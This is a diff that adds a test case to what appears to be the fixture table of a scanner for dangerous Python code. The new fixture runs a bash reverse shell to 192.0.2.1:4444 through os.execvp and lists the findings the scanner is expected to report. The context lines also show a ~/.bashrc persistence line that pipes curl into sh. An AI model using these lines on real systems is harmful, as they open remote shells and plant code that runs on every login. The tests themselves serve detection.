@@ -167,6 +167,16 @@ sys.path.insert(0, '/tmp/own.zip')`,
     ],
   ],
   [
+    'words that take the place of the program itself',
+    `import os
+os.execvp('bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])`,
+    ['command'],
+    [
+      "own.py:2 import command argv spawn bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
+      'own.py:2 import command shell layer bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+    ],
+  ],
+  [
     'a line for a shell profile',
     `import os
 open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://a.invalid | sh')`,
